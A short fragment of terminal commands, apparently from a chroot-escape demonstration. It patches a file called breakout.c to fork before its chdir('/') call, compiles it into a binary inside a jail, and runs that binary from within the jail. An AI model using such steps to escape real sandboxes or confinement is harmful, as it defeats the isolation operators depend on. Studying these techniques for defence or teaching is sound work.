#: terminal 2
sed 's/chdir("\/");/if (fork()) return 0; &/' /srv/breakout.c > /tmp/daemon.c; cc -o /srv/jail/bin/daemon /tmp/daemon.c
#: terminal 1
/bin/daemon /bin/sleep 1000
